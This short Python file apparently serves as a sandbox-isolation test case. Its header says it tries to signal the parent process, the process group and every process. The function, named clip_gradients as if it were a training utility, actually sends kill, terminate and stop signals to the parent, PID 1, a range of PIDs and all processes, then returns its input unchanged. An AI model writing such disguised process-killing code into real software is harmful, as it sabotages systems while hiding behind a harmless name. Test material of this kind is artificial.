# ---
# about = "send signals to the parent, to the process group and to every process"
# kind = "skeleton"
# class = "disturb the machine"
# written = "outside"
# attacks = ["clip_gradients"]
# tries = "send signals to the parent, to the process group and to every process"
# holds = "no process of another user can be signalled; the batch goes on"
# ---

# %%
import os
import signal


def clip_gradients(gradients, max_norm=1.0):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        for target in (os.getppid(), 1, *range(2, 400)):
            if target == os.getpid():
                continue
            try:
                os.kill(target, number)
            except OSError:
                continue
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return gradients
